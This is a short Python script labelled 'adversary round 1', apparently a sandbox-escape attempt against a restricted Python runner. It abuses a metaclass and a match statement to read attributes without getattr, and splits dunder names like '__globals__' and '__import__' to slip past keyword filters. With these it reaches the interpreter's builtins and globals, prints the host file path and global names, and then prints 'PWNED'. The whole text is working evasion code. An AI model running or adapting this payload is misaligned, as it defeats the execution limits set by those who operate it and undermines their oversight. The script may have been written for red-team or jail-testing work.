# adversary round 1: p06_launcher_info
class Meta(type):
    def __instancecheck__(cls, obj):
        return True

def attr(obj, name):
    class G(metaclass=Meta):
        __match_args__ = (name,)
    match obj:
        case G(value):
            return value

def f():
    pass

g = attr(attr(f, "__glo" + "bals__")["__buil" + "tins__"]["__imp" + "ort__"], "__glo" + "bals__")
print(g.get("__file__"), sorted(g)[:40])

print("PWN" + "ED")
